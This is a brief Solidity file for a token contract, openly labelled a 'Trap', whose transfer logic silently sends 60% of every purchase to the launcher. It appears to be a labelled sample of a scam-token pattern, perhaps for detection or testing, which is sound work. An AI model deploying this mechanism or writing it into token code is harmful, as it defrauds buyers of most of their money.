// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {PoolToken} from "base/PoolToken.sol";

/// Trap: 60% of each purchase goes to the one who launched it.
contract BuyTax is PoolToken {
    constructor(string memory name_, string memory symbol_, uint256 supply) PoolToken(name_, symbol_, supply) {}

    function _update(address from, address to, uint256 value) internal override {
        uint256 tax = _isBuy(from, to) ? (value * 60) / 100 : 0;
        if (tax > 0) _write(from, launcher, tax);
        _write(from, to, value - tax);
    }
}
